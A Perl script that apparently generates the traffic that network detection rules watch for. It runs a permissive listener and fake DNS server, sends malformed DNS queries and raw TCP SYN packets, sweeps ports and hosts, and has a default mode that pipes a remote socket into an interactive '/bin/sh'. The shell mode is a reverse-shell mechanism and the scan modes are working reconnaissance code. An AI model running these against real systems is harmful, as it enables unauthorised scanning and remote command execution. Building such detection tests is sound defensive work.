# What rules over connections and names look for, done for real, and the other side of it. perl network.pl WHAT ARGUMENT...
use strict;
use warnings;
use Socket;

sub address { return pack_sockaddr_in( $_[1], inet_aton( $_[0] ) ); }

sub stream {
    my ( $to, $port, $from ) = @_;
    socket( my $socket, AF_INET, SOCK_STREAM, 0 ) or die "socket: $!";
    if ( defined $from ) { bind( $socket, address( $from, 0 ) ) or die "bind: $!"; }
    connect( $socket, address( $to, $port ) );
    return $socket;
}

sub listener {
    my ($port) = @_;
    socket( my $socket, AF_INET, SOCK_STREAM, 0 ) or die "socket: $!";
    setsockopt( $socket, SOL_SOCKET, SO_REUSEADDR, 1 );
    bind( $socket, address( '0.0.0.0', $port ) ) or die "bind $port: $!";
    listen( $socket, 64 )                        or die "listen: $!";
    return $socket;
}

# Lets everybody in and says little; answers names, but for those below .com that nobody has.
sub serve {
    my ( $name_server, @ports ) = @_;
    my @sockets = map { listener($_) } @ports;
    socket( my $names, AF_INET, SOCK_DGRAM, 0 ) or die "socket: $!";
    bind( $names, address( $name_server, 53 ) ) or die "bind 53: $!";
    $| = 1;
    print "ready\n";
    while (1) {
        my $ready = '';
        vec( $ready, fileno $_, 1 ) = 1 for @sockets, $names;
        select( $ready, undef, undef, undef );
        for my $socket (@sockets) {
            next unless vec( $ready, fileno $socket, 1 );
            accept( my $peer, $socket ) or next;
            # A shell is given a moment before its input ends.
            select( undef, undef, undef, 0.05 );
            syswrite( $peer, "HTTP/1.0 200 OK\r\n\r\n" );
        }
        next unless vec( $ready, fileno $names, 1 );
        my $who = recv( $names, my $asked, 2048, 0 ) or next;
        my $question = substr $asked, 12, index( $asked, "\0", 12 ) - 12 + 5;
        my $is_address = substr( $question, -4, 2 ) eq "\0\1";
        my $flags = $question =~ /nobody/ ? 0x8183 : 0x8180;
        my $has = $is_address && $flags == 0x8180;
        my $answer = $has ? "\xc0\x0c\0\1\0\1\0\0\0\x3c\0\4" . inet_aton($name_server) : '';
        send( $names, substr( $asked, 0, 2 ) . pack( 'n5', $flags, 1, $has, 0, 0 ) . $question . $answer, 0, $who );
    }
}

sub ask {
    my ( $server, $type, @names ) = @_;
    socket( my $socket, AF_INET, SOCK_DGRAM, 0 ) or die "socket: $!";
    connect( $socket, address( $server, 53 ) );
    my $id = 1;
    for my $name (@names) {
        my $labels = join '', map { pack 'C/a', $_ } split /\./, $name;
        send( $socket, pack( 'n6', $id++, 0x100, 1, 0, 0, 0 ) . $labels . pack( 'xn2', $type, 1 ), 0 );
        recv( $socket, my $answer, 2048, 0 );
    }
}

# Packets that no connect() makes.
sub knock {
    my ( $from, $to, @ports ) = @_;
    socket( my $raw, AF_INET, SOCK_RAW, 6 ) or die "socket: $!";
    for my $port (@ports) {
        my @header = ( 40_000 + $port, $port, 1, 0, 0x5002, 1024, 0, 0 );
        my $sum = unpack '%32n*', pack( 'a4a4n2', inet_aton($from), inet_aton($to), 6, 20 ) . pack( 'n2N2n4', @header );
        $sum = ( $sum & 0xffff ) + ( $sum >> 16 ) for 1, 2;
        $header[6] = ~$sum & 0xffff;
        send( $raw, pack( 'n2N2n4', @header ), 0, address( $to, 0 ) );
        select( undef, undef, undef, 0.01 );
    }
}

my ( $what, @rest ) = @ARGV;
if    ( $what eq 'serve' ) { serve(@rest); }
elsif ( $what eq 'ask' )   { ask(@rest); }
elsif ( $what eq 'raw' )   { ask( $rest[0], 10, map { "\xc8\x83\xff\x03x$_.t.example.org" } 1 .. 12 ); }
elsif ( $what eq 'knock' ) { knock(@rest); }
elsif ( $what eq 'ports' ) { my $to = shift @rest; stream( $to, $_ ) for @rest; }
elsif ( $what eq 'hosts' ) { my $port = shift @rest; stream( $_, $port ) for @rest; }
elsif ( $what eq 'from' )  { my ( $from, $to, @ports ) = @rest; stream( $to, $_, $from ) for @ports; }
elsif ( $what eq 'listen' ) { accept( my $peer, listener( $rest[0] ) ); }
else {
    my $socket = stream(@rest);
    open( STDIN, '<&', $socket ) or die "dup: $!";
    my @shell = ( '/bin/sh', '-i' );
    $what eq 'become' ? exec(@shell) : system(@shell);
}
